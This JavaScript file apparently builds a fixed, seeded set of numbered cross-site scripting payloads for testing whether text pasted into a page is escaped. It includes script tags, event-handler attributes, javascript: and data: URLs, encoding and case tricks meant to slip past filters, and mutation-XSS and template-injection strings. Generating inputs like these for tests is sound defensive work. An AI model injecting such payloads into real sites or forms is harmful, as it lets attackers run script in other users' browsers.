// Strings made to become markup, script or an attribute wherever one is pasted into a page; always the same ones.
// Each carries its number, so that it can be looked for: "w17x".

let seed = 20240229;
function random(n) {
  seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0;
  return Math.floor((seed / 2 ** 32) * n);
}
const any = (list) => list[random(list.length)];

const code = ["window.xss=1", "alert(1)", "confirm`1`", "window['xs'+'s']=1", "top.xss=1", "(()=>{xss=1})()", "throw onerror=alert,1"];
const breaks = ["", "\"", "'", ">", "\">", "'>", "\" ", "' ", "`", "</title>", "</a>", "</blockquote>", "</script>", "</style>", "</textarea>", "-->", "<!--", "]]>", "\\\"", "\\'", "<", "&", "&#", "</", "${", "{{"];
const handlers = ["onerror", "onload", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onbeforetoggle", "onanimationstart", "onclick", "ONERROR", "onError"];
const tags = ["img src=x", "svg", "svg/", "iframe srcdoc=x", "iframe", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus", "body", "object data=x", "embed src=x", "a href=#", "math", "style", "template", "marquee", "button autofocus", "link rel=stylesheet href=x", "base href=http://x/", "meta http-equiv=refresh content=0", "form action=http://x/", "hf-sok src=http://x", "isindex", "img\nsrc=x", "x"];
const schemes = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "data:text/html,", "vbscript:", "//x/", "\\\\x\\", "blob:"];
const twists = [
  (s) => s, (s) => s, (s) => s, (s) => s,
  (s) => s.replaceAll("<", "&lt;"), (s) => s.replaceAll("<", "&#60;"), (s) => s.replaceAll("<", "\\u003c"), (s) => s.replaceAll("<", "%3C"),
  (s) => s.replaceAll("<", "<<"), (s) => s.replaceAll("<", "\uff1c"), (s) => s.replaceAll(" ", "/"), (s) => s.toUpperCase(),
  (s) => `\u202e${s}`, (s) => s.replaceAll("=", " = "), (s) => `${s}${s}`,
];
const forms = [
  () => `<${any(tags)} data-xss=1 ${any(handlers)}=${any(code)}>`,
  () => `<script data-xss=1>${any(code)}</script>`,
  () => `<script data-xss=1 src=${any(schemes)}x></script>`,
  () => `<a data-xss=1 href="${any(schemes)}${any(code)}">x</a>`,
  () => `${any(schemes)}${any(code)}`,
  () => ` ${any(handlers)}=${any(code)} data-xss=1 x=`,
  () => `<svg data-xss=1><${any(["script", "animate onbegin=", "set onend="])}${any(code)}</svg>`,
  () => `<style data-xss=1>@import "${any(schemes)}x";*{background:url(${any(schemes)}x)}</style>`,
  () => `{{constructor.constructor('${any(code)}')()}}`,
  () => `\${${any(code)}}`,
  () => `<math data-xss=1><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${any(handlers)}=${any(code)}&gt;">`,
  () => `<noscript data-xss=1><p title="</noscript><img src=x ${any(handlers)}=${any(code)}>">`,
];

/* The nth string, for a place in a line of minutes: no line breaks and no tabs. */
export function hostile(n) {
  const text = any(twists)(`${any(breaks)}${any(forms)()}${any(breaks)}`);
  return `w${n}x ${text.replace(/[\n\t]/g, " ")}`;
}
